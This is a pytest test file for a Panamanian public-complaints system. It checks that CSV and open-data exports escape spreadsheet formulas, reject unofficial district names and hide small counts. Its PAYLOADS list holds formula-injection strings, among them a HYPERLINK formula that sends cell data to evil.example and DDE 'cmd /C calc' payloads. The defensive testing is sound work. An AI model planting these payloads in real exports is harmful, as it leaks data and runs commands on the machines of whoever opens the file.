"""Spreadsheet formula injection and small cells in open data (issue 15, finding 8)."""

from __future__ import annotations

import csv
import io

import pytest

from case_core.domain.errors import DomainError
from case_core.domain.geography import DISTRICTS, canonical_location
from case_core.metrics.calls import safe_cell, to_csv
from case_core.metrics.report import MIN_PUBLIC_COUNT, public_districts
from case_core.metrics.scorecards import Scorecard
from tests.integration.test_desktop_cases import _service
from tests.integration.test_desktop_support import (  # noqa: F401
    make_desktop_fixture,
    other_process_fixture,
)

desktop = make_desktop_fixture()
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Ver")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_csv_cell_that_a_spreadsheet_would_run_is_neutralised(payload):
    text = to_csv([{"distrito": payload, "casos": "3"}], ("distrito", "casos"))
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["distrito"] == "'" + payload
    assert row["casos"] == "3"


def test_numbers_stay_numbers():
    assert [safe_cell(v) for v in ("-3", "+5", "12.5", "-0,5", 7, None)] == [
        "-3",
        "+5",
        "12.5",
        "-0,5",
        "7",
        "",
    ]


def test_districts_are_validated_by_province_and_stored_in_their_official_spelling():
    assert sum(len(d) for d in DISTRICTS.values()) == 81
    assert canonical_location("panama", "san miguelito", None) == (
        "Panamá",
        "San Miguelito",
        None,
    )
    assert canonical_location("Veraguas", "Santa Fe", None)[1] == "Santa Fe"
    assert canonical_location("Darién", "santa fe", None)[1] == "Santa Fe"
    for province, district in [
        ("Panamá", PAYLOADS[0]),
        (PAYLOADS[0], None),
        ("Chiriquí", "San Miguelito"),  # a real district, of another province
        (None, "David"),
    ]:
        with pytest.raises(DomainError):
            canonical_location(province, district, None)
    with pytest.raises(DomainError):
        canonical_location("Panamá", "Panamá", PAYLOADS[0])
    assert canonical_location("Panamá", "Panamá", "  Bella   Vista ")[2] == "Bella Vista"


async def test_the_desk_refuses_a_formula_as_district_and_saves_nothing(desktop):
    service = await _service(desktop.uow_factory)
    agent = await desktop.login("agente1", form=False)
    response = await agent.post(
        "/casos",
        {
            "tipo": "queja",
            "servicio_id": str(service.id),
            "descripcion": "Sin agua desde el lunes.",
            "provincia": "Panamá",
            "distrito": PAYLOADS[0],
            "cedula": "8-765-4321",
            "nombre": "Rosa",
        },
    )
    assert response.status == 400
    assert "no es un distrito de Panamá" in (await response.json())["error"]


def _card(district: str | None, received: int, province: str | None = "Panamá") -> Scorecard:
    return Scorecard(
        entity_id=1,
        entity_code="IDAAN",
        entity_name="IDAAN",
        province=province,
        district=district,
        received=received,
        closed=0,
        closed_within_30d=0,
        closed_30d_decided=0,
        first_action_within_24h=0,
        first_action_decided=0,
        open_past_due=0,
        satisfaction_answers=0,
        satisfaction_avg=None,
        callbacks_completed=0,
    )


def test_open_data_publishes_no_cell_below_the_minimum_nor_free_text_districts():
    rows = [
        _card("Panamá", MIN_PUBLIC_COUNT),
        _card("San Miguelito", 1),  # one case: it could be a confidential denuncia
        _card(PAYLOADS[0], 40),  # free text from before validation
        _card(None, 12, None),
    ]
    shown, hidden = public_districts(rows)
    assert [r.district for r in shown] == ["Panamá"]
    assert hidden == 3
